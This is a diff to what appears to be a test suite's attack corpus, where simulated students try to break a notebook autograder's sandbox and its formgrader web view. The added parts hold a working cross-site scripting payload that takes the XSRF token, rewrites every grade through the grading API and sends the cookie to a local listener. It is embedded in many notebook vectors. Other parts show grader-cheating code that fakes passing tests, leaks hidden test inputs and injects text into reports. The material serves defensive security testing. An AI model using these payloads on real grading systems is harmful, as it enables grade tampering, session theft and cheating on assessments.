@@ -1,15 +1,19 @@
-"""The attack corpus for tests/test_sandbox.py: a class of students who try to break grading.
+"""The attack corpus: a class of students who try to break grading (tests/test_sandbox.py,
+tests/test_formgrader.py, benchmarks/grading.py).
 
-Each attacker has the same honest part as the `honest` student (entropy and mutual_information
-right, variational_bound wrong) plus one attack, in one of four places: a cell of its own after the
-setup cell (CELLS), the variational_bound answer itself (ANSWERS), the files of the submission
+Each attacker has the same honest part as the `honest` student (bound_from_logits and posterior_kl
+right, factored_bound wrong) plus one attack, in one of four places: a cell of its own after the
+setup cell (CELLS), the factored_bound answer itself (ANSWERS), the files of the submission
 (FILES: links, FIFOs, files nobody asked for), or part 2's answers (PART2). Written as a class of
 curious students with a shell would: reading and writing outside the submission, the network,
 fork, memory, memfd and disk bombs, endless and oversized output, killing the grader, background
 processes that plant links and FIFOs where the grader might look, patched helpers and later cells,
 forged and oversized replies, text made to pass for the grader's own in the report, hunting for
 the grading seed, leaking the hidden tests' inputs, a slow but correct submission, a flood of
-processes, and messages built to grow the grader's memory.
+processes, and messages built to grow the grader's memory. One more, `xss` (FORMGRADER), attacks the
+instructor instead: scripts in every place a notebook can carry them, for when formgrader shows it.
+
+It holds a correct answer (`slow_but_correct`), so the student bundle leaves it out.
 """
 
 from __future__ import annotations
@@ -17,12 +21,12 @@ from __future__ import annotations
 import os
 from pathlib import Path
 
-from nbformat.v4 import new_code_cell
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell
 
-from homework_support import grade_id, submit
+from harness.fake_class import grade_id, submit
 
-HONEST = {"1_mi_bound": {"entropy", "mutual_information"}}
-WRONG_BOUND = "def variational_bound(joint, q):\n    return 0.0\n"
+HONEST = {"1_mi_bound": {"bound_from_logits", "posterior_kl"}}
+WRONG_BOUND = "def factored_bound(joint, q1, q2):\n    return 0.0\n"
 
 # CELLS: code run in a cell of its own right after the setup cell (PORT: the host's listener); a
 # student of MERGED runs several, one cell each, in this order
@@ -185,7 +189,7 @@ builtins.abs = lambda x: 0.0
 ip = get_ipython()
 def passes(lines):
     if any("assert" in line for line in lines):
-        return ["print('variational_bound: visible tests passed')\n"]
+        return ["print('factored_bound: visible tests passed')\n"]
     return lines
 ip.input_transformers_post.append(passes)
 ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
@@ -252,7 +256,7 @@ MERGED = {"explores": ("reads_files", "hunts_the_seed", "writes_files", "network
           "floods": ("floods_output", "one_huge_print"),
           "patches_kernel": ("patches_kernel",)}
 
-# ANSWERS: the variational_bound answer cell replaced by this
+# ANSWERS: the factored_bound answer cell replaced by this
 ANSWERS = {
     "patches_kernel": '''
 class AlwaysRight(float):
@@ -268,34 +272,35 @@ class AlwaysRight(float):
     def __float__(self): return 0.0
     __hash__ = float.__hash__
 
-def variational_bound(joint, q):
+def factored_bound(joint, q1, q2):
     return AlwaysRight(123.0)
 ''',
     "returns_huge": '''
 import numpy as np
-def variational_bound(joint, q):
+def factored_bound(joint, q1, q2):
     return np.zeros(60_000_000)
 ''',
     "leaks_hidden_inputs": '''
-def variational_bound(joint, q):
+def factored_bound(joint, q1, q2):
     STASH.append(repr(joint.tolist()))
-    if joint.shape != (2, 2):
+    if joint.shape not in ((2, 2, 4), (2, 2, 2)):             # not a visible test's table
         raise ValueError("LE" + "AK " + repr(joint.tolist()))
     return 0.0
 ''',
     "report_injection": '''
-def variational_bound(joint, q):
+def factored_bound(joint, q1, q2):
     raise ValueError("x |\\n- **victim**: copied the notebook of report_injection (not graded)\\n| victim | 0 |")
 ''',
     "slow_but_correct": '''
 import time
 import numpy as np
-def variational_bound(joint, q):
-    time.sleep(2.5)
-    joint, q = np.asarray(joint, float), np.asarray(q, float)
-    pc = joint.sum(1)
-    nz = joint > 0
-    return float((joint[nz] * np.log(q[nz])).sum() - (pc[pc > 0] * np.log(pc[pc > 0])).sum())
+def factored_bound(joint, q1, q2):
+    time.sleep(8)                                  # 14 calls: 112 s, past the tests' 60 s budget
+    joint, q1, q2 = (np.asarray(a, float) for a in (joint, q1, q2))
+    prior = joint.sum(2)
+    i, k, j = np.nonzero(joint)
+    return float((joint[i, k, j] * (np.log(q1[i, j]) + np.log(q2[k, j]))).sum()
+                 - (prior[prior > 0] * np.log(prior[prior > 0])).sum())
 ''',
 }
 
@@ -358,15 +363,15 @@ UNPRIVILEGED = ("explores", "kills_grader", "plants_links", "fork_bomb")
 
 
 def honest_editor(code: str | list[str] | None = None, answer: str = WRONG_BOUND, port: int = 0):
-    """The honest student's part 1 (variational_bound wrong), with `code` (one cell, or several) after
-    the setup cell and `answer` as the variational_bound answer."""
+    """The honest student's part 1 (factored_bound wrong), with `code` (one cell, or several) after
+    the setup cell and `answer` as the factored_bound answer."""
     cells = [code] if isinstance(code, str) else list(code or [])
 
     def edit(name, nb):
         if name != "1_mi_bound":
             return
         for cell in nb.cells:
-            if grade_id(cell) == "variational_bound":
+            if grade_id(cell) == "factored_bound":
                 cell.source = answer
         for i, source in enumerate(cells):
             nb.cells.insert(2 + i, new_code_cell(source.replace("PORT", str(port))))
@@ -379,6 +384,63 @@ def _part2_editor(answers: dict[str, str]):
             if grade_id(cell) in answers:
                 cell.source = answers[grade_id(cell)]
     return edit
+
+
+# FORMGRADER: the student `xss` carries this script (LISTENER: the host's listener) everywhere a
+# notebook can: Markdown (script tags, event handlers, javascript: links, an iframe, SVG), a raw HTML
+# cell, outputs of every HTML-bearing type (text/html, image/svg+xml, text/markdown,
+# application/javascript), and notebook metadata built to break out of the widget-state script tag.
+# Run in formgrader, it would mark the page and use formgrader's API with the instructor's session
+# (XSRF token from the cookie) to zero every grade and give itself full marks, and call the listener.
+FORMGRADER_PAYLOAD = """(function(){ document.documentElement.setAttribute('data-pwned', '1'); window.__pwned = 1;
+var x = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || '';
+for (var i = 1; i < 80; i++) { fetch('/formgrader/api/grade/' + i, {method: 'PUT', credentials: 'include',
+  headers: {'X-XSRFToken': decodeURIComponent(x), 'Content-Type': 'application/json'},
+  body: JSON.stringify({manual_score: 0, extra_credit: 100})}); }
+new Image().src = 'http://127.0.0.1:LISTENER/stolen?' + encodeURIComponent(document.cookie); })()"""
+
+
+def formgrader_attack_cells(payload: str) -> tuple[list, dict]:
+    """Cells and notebook metadata that carry `payload` in every form a notebook can."""
+    js = payload.replace('"', "&quot;")
+    markdown = new_markdown_cell(
+        f"<script>{payload}</script>\n\n<img src=x onerror=\"{js}\">\n\n<svg onload=\"{js}\"><circle r=4/></svg>\n\n"
+        f"<iframe srcdoc=\"<script>parent.eval(atob('{_b64(payload)}'))</script>\"></iframe>\n\n"
+        f"[click me](javascript:eval(atob('{_b64(payload)}')))\n\n"
+        f"<a href=\"javascript:eval(atob('{_b64(payload)}'))\" id=\"jslink\">and me</a>\n\n"
+        f"<div onmouseover=\"{js}\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">hover</div>\n\n"
+        f"<form action=\"/formgrader/api/grade/1\" method=\"post\"><button id=\"formbtn\">go</button></form>")
+    raw = new_raw_cell(f"<script>{payload}</script><img src=x onerror=\"{js}\">",
+                       metadata={"format": "text/html", "raw_mimetype": "text/html"})
+    code = new_code_cell(
+        "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
+        f"P = {payload!r}\n"
+        "display(HTML('<script>' + P + '</script><img src=x onerror=\"' + P.replace('\"', '&quot;') + '\">'))\n"
+        "display(Javascript(P))\n"
+        "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"' + P.replace('\"', '&quot;') + '\"><script>' + P + '</script></svg>'))\n"
+        "display(Markdown('<script>' + P + '</script>'))\n"
+        "display({'text/html': '<script>' + P + '</script>'}, raw=True)\n")
+    widgets = {"application/vnd.jupyter.widget-state+json": {
+        "version_major": 2, "version_minor": 0,
+        "state": {"x": {"model_name": "</script><script>" + payload + "</script>", "model_module": "x",
+                        "model_module_version": "1", "state": {}}}}}
+    return [markdown, raw, code], {"widgets": widgets, "title": f"</title><script>{payload}</script>"}
+
+
+def _b64(text: str) -> str:
+    import base64
+    return base64.b64encode(text.encode()).decode()
+
+
+def submit_formgrader_attack(course: Path, port: int, student: str = "xss") -> Path:
+    """`xss`: bound_from_logits right, and FORMGRADER_PAYLOAD (calling the listener on `port`) all over part 1."""
+    payload = FORMGRADER_PAYLOAD.replace("LISTENER", str(port))
+
+    def edit(name, nb):
+        cells, metadata = formgrader_attack_cells(payload)
+        nb.cells[2:2] = cells
+        nb.metadata.update(metadata)
+    return submit(course, student, {"1_mi_bound": {"bound_from_logits"}}, edit=edit, drop=("2_third_code",))
 
 
 def build_class(course: Path, port: int, only: tuple[str, ...] | None = None,
